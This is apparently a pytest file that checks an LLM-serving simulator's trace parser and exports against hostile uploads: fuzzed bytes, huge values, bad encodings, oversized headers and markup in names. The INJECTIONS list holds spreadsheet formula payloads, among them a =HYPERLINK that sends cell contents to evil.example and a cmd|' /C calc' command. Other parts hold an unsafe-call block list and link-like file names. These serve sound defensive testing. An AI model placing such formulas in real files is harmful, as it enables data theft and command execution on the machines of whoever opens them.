"""Hostile uploads: whatever bytes a trace file holds, the parser returns a valid trace or raises one
clear ValueError (never another exception, a hang or a silent loss); exports neutralise formula-looking
cells; uploads are parsed as data only."""
from __future__ import annotations

import codecs
import csv
import io
import json
import re
import subprocess
import sys
import time
import tokenize
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markup import (CLASS_LINK, FILE_LINK, HOSTILE_CLASSES, hostile_trace, live_markup, report_figures, report_tags,
                    shows)

from batching import report

from batching.sim.workload import requests as workload
from batching.sim.simulate import Scenario, simulate
from batching.sim.hardware.specs import deployment
from batching.sim.workload.traces import MAX_ABS_TIME_S, MAX_PRIORITY_LEVELS, MAX_TOKENS, TraceData, load_trace
from batching.sim.workload.requests import MAX_SPEEDUP, TraceWorkload

ROOT = Path(__file__).resolve().parents[1]
NATIVE = b"arrival_s,prompt_tokens,output_tokens\n"
WITH_CLASS = b"arrival_s,prompt_tokens,output_tokens,class_name\n"
# what every error message starts with or contains: a row and column, or what is wrong with the whole file
CLEAR = re.compile(r"^row \d+|trace is empty|trace has no valid rows|cannot recognise the trace format|"
                   r"missing column|cannot read the trace as (CSV|JSON)|is not UTF-8 text|NUL|byte-order mark|"
                   r"speedup=")
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3", "=1+1", "\t=1", "＝1+1"]


def _check_trace(t: TraceData, rows: int) -> None:
    """The invariants of a parsed trace; nothing lost without being counted."""
    assert len(t) >= 1 and len(t) + t.skipped_rows == rows
    assert t.arrival_s[0] == 0 and np.all(np.isfinite(t.arrival_s)) and np.all(np.diff(t.arrival_s) >= 0)
    assert np.all(t.arrival_s <= 2 * MAX_ABS_TIME_S)
    for a in (t.prompt_tokens, t.output_tokens):
        assert a.dtype == np.int64 and np.all(a >= 1) and np.all(a <= MAX_TOKENS)
    assert np.all(t.priority >= 0) and np.all(t.priority < len(t.class_names))
    assert len(t.class_names) <= MAX_PRIORITY_LEVELS


def _parse(data: bytes, **kw) -> TraceData | str:
    """The trace, or the text of the ValueError (any other exception fails the test)."""
    try:
        return load_trace(data, **kw)
    except ValueError as exc:
        msg = str(exc)
        assert CLEAR.search(msg), msg
        assert len(msg) < 1000, f"error message of {len(msg)} characters"
        return msg


# ---------------------------------------------------------------- fuzzing (hypothesis)

_HEADERS = [NATIVE, WITH_CLASS, b"arrival_s,prompt_tokens,output_tokens,priority\n",
            b"TIMESTAMP,ContextTokens,GeneratedTokens\n", b"Timestamp,Request tokens,Response tokens\n",
            b"arrived_at,num_prefill_tokens,num_decode_tokens\n"]
_hostile_cells = st.one_of(
    st.integers(-5, 2_000_000).map(str),
    st.sampled_from(["1e308", "-1e308", "1e309", str(10**30), str(-(10**30)), "9" * 400, "nan", "NaN", "-nan",
                     "inf", "-inf", "Infinity", "0", "-0", "-1", "0.0", "1.5", "1e3", " 7 ", "", '"3"', "0x10",
                     "1_000", "１２", "2023-11-16 18:15:46", "9999-12-31", "yesterday", *INJECTIONS]),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.text(max_size=12),
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_HEADERS), st.binary(max_size=400))
def test_random_bytes_after_a_valid_header(header: bytes, tail: bytes) -> None:
    for skip in (False, True):
        out = _parse(header + tail, skip_bad_rows=skip)
        if isinstance(out, TraceData):
            _check_trace(out, out.skipped_rows + len(out))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_HEADERS), st.lists(st.lists(_hostile_cells, min_size=1, max_size=5), min_size=1, max_size=10),
       st.booleans())
def test_hostile_cells_give_a_valid_trace_or_a_clear_error(header: bytes, rows: list[list[str]], skip: bool) -> None:
    body = "\n".join(",".join(c.replace(",", " ").replace("\n", " ").replace("\r", " ").replace('"', "")
                              for c in r) for r in rows)
    data = header + body.encode("utf-8", "surrogatepass")
    assume(b"\x00" not in data)
    try:
        body.encode("utf-8")
    except UnicodeEncodeError:
        return  # lone surrogates: not text a file can hold
    out = _parse(data, skip_bad_rows=skip)
    if isinstance(out, TraceData):
        # blank lines (nothing but spaces or tabs) are not rows; every other line is kept or counted
        lines = body.split("\n")
        _check_trace(out, sum(1 for line in lines if line.strip(" \t")))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_HEADERS), st.lists(st.lists(st.one_of(_hostile_cells, st.sampled_from(['"', '""', '"x"', "'"])),
                                                    min_size=1, max_size=5), min_size=1, max_size=8), st.booleans())
def test_quotes_anywhere_give_a_valid_trace_or_a_clear_error(header: bytes, rows: list[list[str]], skip: bool) -> None:
    body = "\n".join(",".join(c.replace(",", " ").replace("\n", " ").replace("\r", " ") for c in r) for r in rows)
    try:
        data = header + body.encode("utf-8")
    except UnicodeEncodeError:
        return
    assume(b"\x00" not in data)
    out = _parse(data, skip_bad_rows=skip)
    if isinstance(out, TraceData):  # a quoted field may span lines, so rows <= lines
        _check_trace(out, len(out) + out.skipped_rows)
        assert len(out) + out.skipped_rows <= len(rows)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.integers(-10**6, 10**6).map(float), st.floats(-1e6, 1e6, allow_nan=False)),
                min_size=1, max_size=40))
def test_timestamps_unsorted_are_refused_duplicates_kept(times: list[float]) -> None:
    data = NATIVE + "".join(f"{t!r},{i + 1},{i + 2}\n" for i, t in enumerate(times)).encode()
    out = _parse(data)
    if all(b >= a for a, b in zip(times, times[1:])):
        assert isinstance(out, TraceData), out
        assert len(out) == len(times)  # duplicates are valid: non-decreasing
        np.testing.assert_allclose(out.arrival_s, np.array(times) - times[0], rtol=1e-12, atol=1e-9)
        assert out.prompt_tokens.tolist() == list(range(1, len(times) + 1))
    else:
        assert isinstance(out, str) and "sort the trace by arrival" in out
        first = next(j for j in range(1, len(times)) if times[j] < times[j - 1])
        assert out.startswith(f"row {first + 1}, column arrival_s")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.floats(0, 1e4), st.integers(1, 5000), st.integers(1, 5000)), min_size=1, max_size=30),
       st.floats(1e-300, MAX_SPEEDUP), st.one_of(st.none(), st.integers(1, 40)),
       st.one_of(st.none(), st.floats(1e-6, 1e9)))
def test_trace_workload_generate_is_valid_or_a_clear_error(rows, speedup, max_requests, max_duration_s) -> None:
    rows = sorted(rows)
    data = NATIVE + "".join(f"{a!r},{p},{o}\n" for a, p, o in rows).encode()
    w = TraceWorkload(data, filename="fuzz.csv", speedup=speedup, max_requests=max_requests,
                      max_duration_s=max_duration_s)
    try:
        reqs = w.generate()
    except ValueError as exc:
        assert "speedup=" in str(exc) and "larger speedup" in str(exc)
        return
    reqs.validate()
    n = len(reqs)
    assert 1 <= n <= len(rows) and (max_requests is None or n <= max_requests)
    assert np.all(np.isfinite(reqs.arrival_s)) and np.all(np.diff(reqs.arrival_s) >= 0)
    assert reqs.arrival_s[-1] <= MAX_ABS_TIME_S  # where float64 still resolves a millisecond
    assert reqs.prompt_tokens.tolist() == [p for _, p, _ in rows[:n]]


def test_a_speedup_that_overflows_time_is_a_clear_error() -> None:
    w = TraceWorkload(NATIVE + b"0,10,5\n8e12,10,5\n", speedup=1e-300)
    with pytest.raises(ValueError, match=r"speedup=1e-300 \(the trace's last arrival at 8e\+12 s\) puts the last "
                                         r"arrival at inf s; allowed up to 8\.796e\+12 s .* use a larger speedup"):
        w.generate()
    # a finite stretch that float64 can no longer resolve to the millisecond is refused too
    with pytest.raises(ValueError, match=r"puts the last arrival at 8e\+15 s; allowed up to 8\.796e\+12 s"):
        TraceWorkload(NATIVE + b"0,10,5\n8e12,10,5\n", speedup=1e-3).generate()


# ---------------------------------------------------------------- numbers and lengths


@pytest.mark.parametrize("cell, column, message", [
    ("1e308", "arrival_s", "'1e308' is out of range; allowed -8.796e+12 to 8.796e+12 seconds"),
    ("1e15", "arrival_s", "'1e15' is out of range; allowed -8.796e+12 to 8.796e+12 seconds (2^43 s: beyond it"),
    ("1e309", "arrival_s", "'1e309' is out of range"),
    ("9" * 400, "arrival_s", "(400 characters)' is out of range"),
    (str(10**30), "prompt_tokens", "1000000000000000000000000000000 tokens is above the limit of 1,000,000"),
    ("9" * 5000, "prompt_tokens", "(5,000 characters) tokens is above the limit"),
    ("nan", "arrival_s", "'nan' is not a finite number"),
    ("-inf", "output_tokens", "'-inf' is not a finite number"),
    ("Infinity", "prompt_tokens", "'Infinity' is not a finite number"),
    ("0", "prompt_tokens", "'0' is not a positive integer"),
    ("-4", "output_tokens", "'-4' is not a positive integer"),
    ("-0", "output_tokens", "'-0' is not a positive integer"),
])
def test_huge_non_finite_negative_and_zero_values(cell: str, column: str, message: str) -> None:
    row = {"arrival_s": "1", "prompt_tokens": "10", "output_tokens": "5"} | {column: cell}
    data = NATIVE + b"0,10,5\n" + ",".join(row.values()).encode() + b"\n"
    with pytest.raises(ValueError) as info:
        load_trace(data)
    assert str(info.value).startswith(f"row 2, column {column}: ") and message in str(info.value)
    assert len(str(info.value)) < 200  # a hostile cell does not blow up the message
    skipped = load_trace(data, skip_bad_rows=True)
    assert len(skipped) == 1 and skipped.skipped_rows == 1


def test_huge_numbers_in_json() -> None:
    cases = {
        b'{"arrival_s": 1e400, "prompt_tokens": 1, "output_tokens": 1}': "'inf' is not a finite number",
        b'{"arrival_s": 0, "prompt_tokens": 1000000000000000000000000000000, "output_tokens": 1}':
            "tokens is above the limit",
        b'{"arrival_s": 0, "prompt_tokens": ' + b"1" * 5000 + b', "output_tokens": 1}':
            "row 1: invalid JSON (a number has more than 4,300 digits)",
        b'{"arrival_s": NaN, "prompt_tokens": 1, "output_tokens": 1}': "'nan' is not a finite number",
        b"[" * 100_000 + b"]" * 100_000: "nested too deeply",
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000: "row 1: invalid JSON (objects or arrays nested too deeply)",
        b"[1, 2, 3]": "row 1: expected a JSON object, got int (and all 3 rows are bad)",
    }
    for data, message in cases.items():
        with pytest.raises(ValueError) as info:
            load_trace(data + b"\n")
        assert message in str(info.value), (data[:60], str(info.value))


@pytest.mark.parametrize("data, message", [
    # pandas alone would take the extra leading fields of a wider first row as an index and shift the columns
    (NATIVE + b"0,0,0,1,1\n0,1,1\n", "line 2 of the file has 5 fields but the header has 3"),
    (NATIVE + b"0,5,6,\n1,1,1,\n", "line 2 of the file has 4 fields but the header has 3"),
    (NATIVE + b"0,0\n0,0,0,1,1\n", "line 3 of the file has 5 fields but the header has 3"),
    (NATIVE + b'0,1,1\n"1,1,1\n', 'a quote (") opened on line 3 of the file is never closed'),
])
def test_lines_wider_than_the_header_are_errors_not_shifted_columns(data: bytes, message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        load_trace(data)
    try:  # skipping bad rows counts them; nothing is shifted into a valid-looking row
        t = load_trace(data, skip_bad_rows=True)
    except ValueError as exc:
        assert CLEAR.search(str(exc)), str(exc)
    else:
        assert t.skipped_rows >= 1 and len(t) + t.skipped_rows == 2
        assert t.prompt_tokens.tolist() == [1] * len(t)


def test_negative_timestamps_are_shifted_and_duplicates_kept() -> None:
    t = load_trace(NATIVE + b"-5,1,1\n-5,2,2\n-3,3,3\n-3,4,4\n")
    assert t.arrival_s.tolist() == [0.0, 0.0, 2.0, 2.0] and t.prompt_tokens.tolist() == [1, 2, 3, 4]


# ---------------------------------------------------------------- encodings


TEXT = "arrival_s,prompt_tokens,output_tokens,class_name\n0,10,5,café\n1.5,20,6,日本語\n"
LATIN = "arrival_s,prompt_tokens,output_tokens,class_name\n0,10,5,café\n1.5,20,6,naïve\n"


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-32"])
def test_unicode_with_a_byte_order_mark_reads_the_same(codec: str) -> None:
    t = load_trace(TEXT.encode(codec))
    assert t.class_names == ("café", "日本語") and t.arrival_s.tolist() == [0.0, 1.5]


def test_excel_unicode_text_utf16_tab_separated() -> None:
    t = load_trace(codecs.BOM_UTF16_LE + TEXT.replace(",", "\t").encode("utf-16-le"))
    assert t.class_names == ("café", "日本語") and len(t) == 2


@pytest.mark.parametrize("data, message", [
    (TEXT.encode("utf-16-le"), "NUL byte at offset 1 (it looks like UTF-16 or UTF-32 text without a byte-order mark)"),
    (TEXT.encode("utf-16-be"), "NUL byte at offset 0 (it looks like UTF-16"),
    (LATIN.encode("latin-1"), "not UTF-8 text: byte 0xe9 at offset 59"),
    (LATIN.encode("cp1252"), "not UTF-8 text: byte 0xe9 at offset 59"),
    (NATIVE + b"0,1,1\x00\n", "NUL byte at offset 43 (text files have none)"),
    (codecs.BOM_UTF16_LE + b"a\x00b", "starts with a UTF-16 byte-order mark but is not UTF-16 text"),
])
def test_wrong_encodings_are_refused_clearly(data: bytes, message: str) -> None:
    with pytest.raises(ValueError) as info:
        load_trace(data)
    assert message in str(info.value) and "save the file as UTF-8" in str(info.value)


# ---------------------------------------------------------------- CSV injection


def _injected_trace() -> bytes:
    """One request per formula-looking class name, written (and quoted) by the csv module."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["arrival_s", "prompt_tokens", "output_tokens", "class_name"])
    for i, name in enumerate(INJECTIONS):
        w.writerow([i, 100 + i, 10 + i, name])
    return buf.getvalue().encode()


def test_formula_cells_are_data_in_the_trace_and_neutralised_in_exports() -> None:
    t = load_trace(_injected_trace())
    # kept verbatim (stripped of surrounding blanks like every cell): a class name is data, never run
    assert t.class_names == tuple(n.strip() for n in INJECTIONS)
    sc = Scenario(deployment=deployment(), workload=TraceWorkload(_injected_trace(), filename="inj.csv"))
    res = simulate(sc)
    assert res.requests["class_name"].tolist() == list(t.class_names)  # the frame itself is untouched
    for blob in (report.requests_csv(res), report.combined_csv({"=evil": res})):
        rows = list(csv.DictReader(io.StringIO(blob.decode())))
        assert len(rows) == len(INJECTIONS)
        for row, name in zip(rows, t.class_names):
            assert row["class_name"] == "'" + name, row["class_name"]
            assert not row["class_name"].startswith(tuple("=+-@\t\r＝"))
        for row in rows:  # numbers stay numbers
            float(row["arrival_s"]), int(row["prompt_tokens"])
    combined = list(csv.DictReader(io.StringIO(report.combined_csv({"=evil": res}).decode())))
    assert {r["policy"] for r in combined} == {"'=evil"}


def test_csv_safe_leaves_numbers_and_plain_text_alone() -> None:
    import pandas as pd

    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [-3, 4], "name": ["chat", "-2+3"],
                       "obj": pd.Series([None, "@x"], dtype=object)})
    safe = report.csv_safe(df)
    assert safe["x"].tolist() == [-1.5, 2.0] and safe["n"].tolist() == [-3, 4]
    assert safe["name"].tolist() == ["chat", "'-2+3"] and safe["obj"].tolist() == [None, "'@x"]
    assert df["name"].tolist() == ["chat", "-2+3"]  # not modified in place
    numbers = df[["x", "n"]]
    assert report.csv_safe(numbers) is numbers  # nothing to neutralise: no copy
    text = report.frame_csv(df).decode().splitlines()
    assert text[1] == "-1.5,-3,chat," and text[2] == "2.0,4,'-2+3,'@x"


def test_cli_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    trace = tmp_path / "inj.csv"
    trace.write_bytes(_injected_trace())
    out = subprocess.run([sys.executable, "-m", "batching", "run", "--trace", str(trace), "--csv", str(tmp_path)],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader((tmp_path / "requests.csv").open()))
    assert [r["class_name"] for r in rows] == ["'" + n.strip() for n in INJECTIONS]


# ---------------------------------------------------------------- size


def _digits(values: np.ndarray, width: int) -> np.ndarray:
    """Zero-padded decimal digits of non-negative integers as ASCII codes, shape (n, width)."""
    powers = 10 ** np.arange(width - 1, -1, -1, dtype=np.int64)
    return (values[:, None] // powers % 10 + ord("0")).astype(np.uint8)


def fixed_width_trace(n: int, bad_last_row: bool = False) -> bytes:
    """n rows 'SSSSS.mmm,PPPP,OOOO' built with NumPy in about a second (no Python loop over rows)."""
    i = np.arange(n, dtype=np.int64)
    ms = i * 7  # a request every 7 ms: non-decreasing, up to 70,000 s for 10^7 rows
    cols = [_digits(ms // 1000, 5), np.full((n, 1), ord("."), np.uint8), _digits(ms % 1000, 3),
            np.full((n, 1), ord(","), np.uint8), _digits(1 + i * 37 % 4000, 4),
            np.full((n, 1), ord(","), np.uint8), _digits(1 + i * 13 % 500, 4),
            np.full((n, 1), ord("\n"), np.uint8)]
    rows = np.hstack(cols)
    if bad_last_row:
        rows[-1, 10:14] = np.frombuffer(b"-001", np.uint8)
    return NATIVE + rows.tobytes()


def test_ten_million_row_trace_parses_in_bounded_time() -> None:
    """A 10^7-row CSV (200 MB): about 20 s and 4.7 GB on a 2-core machine; the bound leaves room for slower CI."""
    n = 10_000_000
    data = fixed_width_trace(n)
    assert len(data) == len(NATIVE) + 20 * n
    start = time.perf_counter()
    t = load_trace(data, filename="ten_million.csv")
    elapsed = time.perf_counter() - start
    print(f"\n10^7-row trace ({len(data) / 1e6:.0f} MB): parsed in {elapsed:.1f} s")
    assert elapsed < 120
    assert len(t) == n and t.skipped_rows == 0
    assert t.arrival_s[-1] == pytest.approx((n - 1) * 0.007) and np.all(np.diff(t.arrival_s) >= 0)
    assert t.prompt_tokens[:3].tolist() == [1, 38, 75] and t.output_tokens[-1] == 1 + (n - 1) * 13 % 500


def test_a_bad_row_at_the_end_of_a_million_rows_is_named() -> None:
    n = 1_000_000
    data = fixed_width_trace(n, bad_last_row=True)
    start = time.perf_counter()
    with pytest.raises(ValueError, match=f"row {n}, column prompt_tokens: '-001' is not a positive integer"):
        load_trace(data)
    t = load_trace(data, skip_bad_rows=True)
    assert len(t) == n - 1 and t.skipped_rows == 1
    # the workload keeps what the dashboard's cap allows
    w = TraceWorkload(data, filename="million.csv", skip_bad_rows=True, max_requests=20_000)
    assert len(w.generate()) == 20_000 and w.skipped_rows == 1
    assert time.perf_counter() - start < 30
    workload._load_cached.cache_clear()  # do not keep the trace in the test process


# ---------------------------------------------------------------- data only


PARSING_PATH = ["batching/sim/workload/traces.py", "batching/sim/workload/requests.py", "batching/ui/sidebar.py", "batching/ui/cache.py",
                "batching/sim/simulate.py", "batching/report.py"]
UNSAFE_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "yaml", "joblib"}
UNSAFE_CALLS = {"eval", "exec", "compile", "read_pickle", "__import__", "literal_eval", "query", "import_module"}


def _unsafe(path: Path) -> list[str]:
    """Code (not strings or comments) that loads objects or runs text: an unsafe module named anywhere,
    or a call of eval/exec/compile/... (``re.compile`` builds a regular expression and is allowed)."""
    with path.open("rb") as f:
        toks = [t for t in tokenize.tokenize(f.readline)
                if t.type in (tokenize.NAME, tokenize.OP)]
    found = []
    for i, t in enumerate(toks):
        if t.type != tokenize.NAME:
            continue
        called = i + 1 < len(toks) and toks[i + 1].string == "("
        after_re = i >= 2 and toks[i - 1].string == "." and toks[i - 2].string == "re"
        if t.string in UNSAFE_MODULES or (t.string in UNSAFE_CALLS and called and not after_re):
            found.append(f"{path.relative_to(ROOT)}:{t.start[0]}: {t.string}")
    return found


def test_uploads_are_parsed_as_data_only() -> None:
    assert _unsafe(ROOT / "batching" / "sim" / "workload" / "traces.py") == []
    found = [hit for p in PARSING_PATH for hit in _unsafe(ROOT / p)]
    assert found == [], found
    # and nowhere in the package or the pages does code load pickles or run text
    everywhere = [hit for p in sorted([*(ROOT / "batching").rglob("*.py"), *(ROOT / "pages").glob("*.py"),
                                       ROOT / "app.py"]) for hit in _unsafe(p)]
    assert everywhere == [], everywhere
    # the check itself finds what it looks for
    probe = ROOT / "batching" / "sim" / "_probe_unsafe_check.py"
    try:
        probe.write_text("import pickle\nx = eval('1')\ndf.query('a > 1')\nimport re\nr = re.compile('x')\n")
        assert [h.split(": ")[1] for h in _unsafe(probe)] == ["pickle", "eval", "query"]
    finally:
        probe.unlink()
    # the reader is pandas' CSV parser with every cell as text, or json
    src = (ROOT / "batching" / "sim" / "workload" / "traces.py").read_text()
    assert "dtype=str" in src and "json.loads" in src


# ---------------------------------------------------------------- wide headers: bounded time, short messages


def _user_chars(msg: str) -> int:
    """How many characters of a message come from the hostile input below (written with X and Q only; no
    message of the parser's own uses those letters)."""
    return msg.count("X") + msg.count("Q")


WIDE = ",".join("X" * 6 + "Q" * 3 for _ in range(200_000)).encode()  # 200,000 columns, 2 MB


@pytest.mark.parametrize("data", [
    WIDE + b"\n1,2,3\n",
    NATIVE.rstrip(b"\n") + b"," + WIDE + b"\n0,1,1" + b"," * 200_000 + b"\n",
    b"\t".join(b"XXXXXXXXQ" for _ in range(200_000)) + b"\n1\t2\t3\n",
    b"[{" + b",".join(b'"X%dQ": 1' % i for i in range(200_000)) + b"}]",
    b"X" * 2_000_000 + b"\n1\n",  # one column, a 2 MB name
    b'"' + b"XQ," * 700_000 + b'"\n1\n',  # one quoted column full of commas
], ids=["csv", "native+wide", "tsv", "json", "one-2MB-name", "quoted-commas"])
def test_a_two_megabyte_header_is_refused_in_bounded_time_with_a_short_message(data: bytes) -> None:
    assert len(data) >= 2_000_000
    start = time.perf_counter()
    with pytest.raises(ValueError) as info:
        load_trace(data)
    elapsed = time.perf_counter() - start
    msg = str(info.value)
    # bounded, not a speed target: milliseconds here; the quadratic parse it guards against took ~20 s per 50,000
    # columns (minutes for these), and a shared CI machine has stalled a 0.05 s read past 1 s
    assert elapsed <= 10.0, f"{elapsed:.2f} s"
    assert _user_chars(msg) <= 200 and len(msg) < 1000, msg[:1000]
    assert CLEAR.search(msg), msg


def test_header_width_is_parsed_in_linear_time() -> None:
    """Doubling a refused header's width about doubles the time (a quadratic parser quadruples it)."""
    def seconds(n: int) -> float:
        data = ",".join(f"c{i}" for i in range(n)).encode() + b"\n1\n"
        best = float("inf")
        for _ in range(3):
            t = time.perf_counter()
            with pytest.raises(ValueError, match=f"its header has {n:,} columns; allowed up to 1,000"):
                load_trace(data)
            best = min(best, time.perf_counter() - t)
        return best

    small, large = seconds(400_000), seconds(1_600_000)
    assert large < 8 * small + 0.05, (small, large)


def test_a_header_just_under_the_limit_still_reads() -> None:
    extra = ",".join(f"extra{i}" for i in range(997)).encode()
    t = load_trace(NATIVE.rstrip(b"\n") + b"," + extra + b"\n0,5,6" + b",x" * 997 + b"\n")
    assert len(t) == 1 and t.prompt_tokens.tolist() == [5]
    with pytest.raises(ValueError, match="its header has 1,001 columns; allowed up to 1,000"):
        load_trace(NATIVE.rstrip(b"\n") + b"," + extra + b",one_more\n0,5,6" + b",x" * 998 + b"\n")


# ---------------------------------------------------------------- the dashboard routes uploads through the same checks


def _app(page: str, **query: str):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    for k, v in query.items():
        at.query_params[k] = v
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_dashboard_wide_trace_upload_is_a_short_st_error() -> None:
    at = _app("pages/model_and_hardware.py", workload="trace", n="200")
    start = time.perf_counter()
    at.file_uploader(key="trace_file").set_value(("wide.csv", WIDE + b"\n1,2,3\n", "text/csv")).run()
    elapsed = time.perf_counter() - start
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == 1, errors
    assert "wide.csv" in errors[0] and "its header has 200,000 columns; allowed up to 1,000" in errors[0]
    assert _user_chars(errors[0]) <= 200 and len(errors[0]) < 1000
    assert elapsed < 15, f"{elapsed:.1f} s"  # the parse itself takes milliseconds; a rerun draws the page


@pytest.mark.parametrize("data, message", [
    (NATIVE + b"1e15,10,5\n", "'1e15' is out of range; allowed -8.796e+12 to 8.796e+12 seconds"),
    (NATIVE + "0,１２,5\n".encode(), "its digits are not ASCII 0-9"),
])
def test_dashboard_trace_upload_errors_name_field_and_range(data: bytes, message: str) -> None:
    at = _app("pages/model_and_hardware.py", workload="trace", n="200")
    at.file_uploader(key="trace_file").set_value(("odd.csv", data, "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    assert any(message in e.value and "odd.csv" in e.value for e in at.error), [e.value for e in at.error]


def test_dashboard_custom_model_form_quotes_at_most_200_characters() -> None:
    at = _app("pages/model_and_hardware.py", n="200")
    [t for t in at.text_input if t.label == "Model name"][0].set_value("X" * 10_000)
    [b for b in at.button if "Use these specs" in b.label][0].click().run()
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and "is not allowed; allowed 1 to 64 characters" in errors[0], errors
    assert "(10,000 characters)" in errors[0] and _user_chars(errors[0]) <= 200


# ---------------------------------------------------------------- markup in figures and reports (charts.text)

# what a report's HTML is built of (report.html_report, pandas' to_html, plotly's div): a user's text adds none
REPORT_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "code", "table", "thead", "tbody",
               "tr", "th", "td", "div", "script"}
FILE_SAFE_LINK = "<a href='https:evil.example'><b>Open me<br>.csv"  # a link-like name a file system accepts


def test_literal_shows_every_text_as_typed() -> None:
    from batching.charts.text import class_label, literal, unliteral

    for text in (CLASS_LINK, "a & b", "&lt;x&gt;", "&amp;", "<br>", "plain"):
        out = literal(text)
        assert "<" not in out and ">" not in out and unliteral(out) == text
        # what plotly.js does with it: entities in text (no tag) become the characters, in one pass
        assert re.sub(r"&(lt|gt|amp);", lambda m: {"lt": "<", "gt": ">", "amp": "&"}[m[1]], out) == text
    assert class_label(["<b>x</b>"], 0) == "&lt;b&gt;x&lt;/b&gt;" and class_label([], 2) == "class 2"


def _assert_report_shows_as_typed(html: str, figures: int, hostile: list[str], classes: bool) -> None:
    """The report's figures carry ``hostile`` only as entities (Plotly draws them as text), its own HTML only as
    escaped text (shown as typed), and nothing of it forms an element."""
    figs = report_figures(html)
    assert len(figs) == figures
    for fig in figs:
        assert not live_markup(fig, hostile), live_markup(fig, hostile)
    assert any(shows(f, hostile[-1], ".legend9.title") for f in figs)  # the file name, in the caption lines
    if classes:
        for name in HOSTILE_CLASSES[:2]:
            assert any(shows(f, name, ".name") for f in figs), name
    tags, text = report_tags(html)
    assert tags <= REPORT_TAGS, tags - REPORT_TAGS
    assert hostile[-1] in text  # the scenario table names the file as typed


def test_report_cli_writes_no_live_markup(tmp_path: Path) -> None:
    """`python -m batching report --trace FILE --no-png --out DIR` with link-like class names and file name: the
    HTML report's figures and text show them as typed; the CSV and JSON keep them as data."""
    trace = tmp_path / FILE_SAFE_LINK
    trace.write_bytes(hostile_trace())
    out = subprocess.run([sys.executable, "-m", "batching", "report", "--trace", str(trace), "--no-png", "--out",
                          str(tmp_path / "out")], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    html = (tmp_path / "out" / "explore_report.html").read_text()
    _assert_report_shows_as_typed(html, 7, [*HOSTILE_CLASSES[:2], FILE_SAFE_LINK], classes=True)
    rows = list(csv.DictReader((tmp_path / "out" / "explore_requests.csv").open()))
    assert {r["class_name"] for r in rows} == set(HOSTILE_CLASSES)  # raw: a CSV cell is data
    summary = json.loads((tmp_path / "out" / "explore_summary.json").read_text())
    (by_class,) = [s["by_priority"] for s in summary["summaries"].values()]
    assert [c["class_name"] for _, c in sorted(by_class.items())] == list(HOSTILE_CLASSES)  # raw in JSON too
    assert FILE_SAFE_LINK in summary["scenario"]["Workload"]


def test_every_page_export_shows_hostile_names_as_typed() -> None:
    """Each page's export (figures, HTML report) for a trace with link-like class names and file name."""
    from batching.sim.policy import PRESETS
    from batching.studies.capacity import SLO, capacity
    from batching.studies.compare import compare
    from batching.studies.planning import plan_capacity, sweep_study

    sc = Scenario(deployment=deployment(), workload=TraceWorkload(hostile_trace(), filename=FILE_LINK))
    slo = SLO(ttft_s=2.0, tpot_s=0.1)
    two = {k: PRESETS[k] for k in ("static", "chunked")}
    exports = {
        "explore": report.explore_export(simulate(sc.with_policy(PRESETS["chunked"])), "chunked"),
        "showdown": report.showdown_export(compare(sc, two), sc, two),
        "compare": report.compare_export(compare(sc, two), sc, two),
        "tune": report.tune_export(sweep_study(sc.with_policy(PRESETS["continuous"]), "max_num_seqs", [16, 64],
                                               label="continuous"), True, "tpot_cap"),
        "capacity": report.capacity_export(plan_capacity(sc, slo, {n: capacity(sc.with_policy(p), slo)
                                                                   for n, p in two.items()}, 20.0, 2.5)),
    }
    for page, export in exports.items():
        html = export.html()
        _assert_report_shows_as_typed(html, len(export.figures), [*HOSTILE_CLASSES[:2], FILE_LINK],
                                      classes=page in ("explore", "showdown"))
        for key, (fig, _) in export.figures.items():  # the PNG files are drawn from these same figures
            assert not live_markup(fig.to_plotly_json(), [*HOSTILE_CLASSES[:2], FILE_LINK]), (page, key)
